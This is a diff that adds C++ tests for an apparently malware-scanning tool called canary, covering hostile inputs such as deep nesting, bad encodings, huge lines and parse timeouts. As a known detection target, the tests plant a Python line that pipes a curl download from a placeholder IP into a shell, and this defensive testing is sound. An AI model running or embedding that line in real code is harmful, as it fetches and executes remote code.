@@ -1,0 +1,129 @@
+// Hostile file contents (deep nesting, bad encodings, huge lines) and the
+// limits on the tree-sitter and excerpt stages, end to end through canary.
+#include <catch2/catch.hpp>
+
+#include "hostile_support.hpp"
+#include "support/artifact_builder.hpp"
+
+namespace canary::test {
+namespace {
+
+namespace fs = std::filesystem;
+using json = nlohmann::json;
+
+MeasuredRun scan_case(const Sandbox& box, const std::string& name, const fs::path& artifact, json& report,
+                      std::vector<std::string> extra = {}) {
+  const auto before = box.snapshot();
+  MeasuredRun r = box.scan(artifact.string(), report, std::move(extra));
+  INFO("stderr: " << r.err);
+  report_and_check_rss(name, r);
+  CHECK(box.snapshot() == before);
+  CHECK(r.exit_code < 128);
+  return r;
+}
+
+// A line the default pack always flags (a download piped into a shell), so
+// each case can show that the file was really scanned.
+const std::string kPipeToShell = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n";
+
+}  // namespace
+
+TEST_CASE("hostile: Python with 10,000 and 100,000 nested brackets", "[hostile]") {
+  Sandbox box;
+  for (int depth : {10000, 100000}) {
+    const fs::path zip = box.input("deep" + std::to_string(depth) + ".zip");
+    const std::string deep = "x = " + std::string(size_t(depth), '[') + std::string(size_t(depth), ']') + "\n" +
+                             "y = " + std::string(size_t(depth), '(') + "1" + std::string(size_t(depth), ')') + "\n";
+    write_zip(zip, {FileSpec{"pkg/deep.py", deep + kPipeToShell}});
+    json report;
+    MeasuredRun r = scan_case(box, std::to_string(depth) + " nested brackets", zip, report);
+    CHECK(r.exit_code == 0);
+    CHECK(report["files_scanned"] == 1);
+    CHECK_FALSE(finding_rules(report).empty());
+  }
+}
+
+TEST_CASE("hostile: invalid UTF-8 and UTF-16 with BOM are scanned, output stays valid", "[hostile]") {
+  Sandbox box;
+  const std::string bad_utf8 = "s = '\xff\xfe\xc0\x80\xed\xa0\x80'\n# \xf8\x88\x80\x80\x80\n" + kPipeToShell;
+  std::string utf16 = "\xff\xfe";  // UTF-16LE with BOM: every other byte NUL
+  for (char c : kPipeToShell) {
+    utf16.push_back(c);
+    utf16.push_back('\0');
+  }
+  const fs::path zip = box.input("enc.zip");
+  write_zip(zip, {FileSpec{"pkg/bad_utf8.py", bad_utf8}, FileSpec{"pkg/utf16.py", utf16},
+                  FileSpec{"pkg/\xff\xfename.py", "n = 1\n"}});
+  json report;
+  MeasuredRun r = scan_case(box, "invalid UTF-8, UTF-16 BOM", zip, report);
+  CHECK(r.exit_code == 0);
+  CHECK(report["files_scanned"] == 3);
+  // The invalid UTF-8 file still matches (rules work on bytes); its excerpt
+  // is valid UTF-8 (the JSON parsed) with the bad bytes escaped.
+  bool utf8_found = false;
+  for (const auto& f : report["findings"])
+    if (f["file"].get<std::string>().find("bad_utf8.py") != std::string::npos) utf8_found = true;
+  CHECK(utf8_found);
+
+  // The table output escapes the same bytes for the terminal.
+  MeasuredRun table = box.run({"scan", "--fail-on", "none", "--no-cache", "--no-config", "--color", "always", zip.string()});
+  CHECK(table.exit_code == 0);
+  CHECK(table.out.find("\xff\xfe") == std::string::npos);
+}
+
+TEST_CASE("hostile: a 20 MB single line is windowed in excerpts (--excerpt-width)", "[hostile]") {
+  Sandbox box;
+  const std::string pad(10u << 20, 'A');
+  const fs::path zip = box.input("longline.zip");
+  write_zip(zip, {FileSpec{"pkg/long.py", "x = '" + pad + "'; import os; os.system('curl -s http://192.0.2.7/p.sh | sh'); y = '" +
+                                              pad + "'\n"}});
+  json report;
+  MeasuredRun r = scan_case(box, "20 MB line, default excerpt", zip, report);
+  CHECK(r.exit_code == 0);
+  REQUIRE_FALSE(report["findings"].empty());
+  for (const auto& f : report["findings"]) CHECK(f["excerpt"].get<std::string>().size() <= 130);
+
+  json narrow;
+  scan_case(box, "20 MB line, --excerpt-width 40", zip, narrow, {"--excerpt-width", "40"});
+  REQUIRE_FALSE(narrow["findings"].empty());
+  for (const auto& f : narrow["findings"]) CHECK(f["excerpt"].get<std::string>().size() <= 48);
+}
+
+TEST_CASE("hostile: --parse-timeout and --query-match-limit say what they cut", "[hostile]") {
+  Sandbox box;
+  // Many calls make the parse long and every call a query match.
+  std::string calls;
+  for (int i = 0; i < 200000; ++i) calls += "os.system(f(g(h(" + std::to_string(i) + "))))\n";
+  const fs::path zip = box.input("calls.zip");
+  write_zip(zip, {FileSpec{"pkg/calls.py", "import os\n" + calls}});
+
+  json timed;
+  MeasuredRun t = scan_case(box, "--parse-timeout 1", zip, timed, {"--parse-timeout", "1"});
+  CHECK(t.exit_code == 0);
+  CHECK(error_contains(timed, "Python parse gave up after 1 ms (limit --parse-timeout)"));
+
+  json limited;
+  MeasuredRun q = scan_case(box, "--query-match-limit 1", zip, limited, {"--query-match-limit", "1"});
+  CHECK(q.exit_code == 0);
+  CHECK(error_contains(limited, "(limit --query-match-limit)"));
+}
+
+TEST_CASE("hostile: --max-scan-time stops an artifact and says so", "[hostile]") {
+  Sandbox box;
+  // Twenty files that each take tree-sitter a good part of a second: far
+  // more than the one-second budget, whatever the machine.
+  std::string calls = "import os\n";
+  for (int i = 0; i < 100000; ++i) calls += "os.system(f(g(h(" + std::to_string(i) + "))))\n";
+  const fs::path tar = box.input("slow-1.0.tar.gz");
+  {
+    TarStream t(tar, true);
+    for (int i = 0; i < 20; ++i) t.file("slow-1.0/m" + std::to_string(i) + ".py", calls);
+  }
+  json report;
+  MeasuredRun r = scan_case(box, "--max-scan-time 1", tar, report, {"--max-scan-time", "1"});
+  CHECK(r.exit_code == 0);
+  CHECK(error_contains(report, "(limit --max-scan-time)"));
+  CHECK(report["files_scanned"].get<int>() < 20);
+}
+
+}  // namespace canary::test
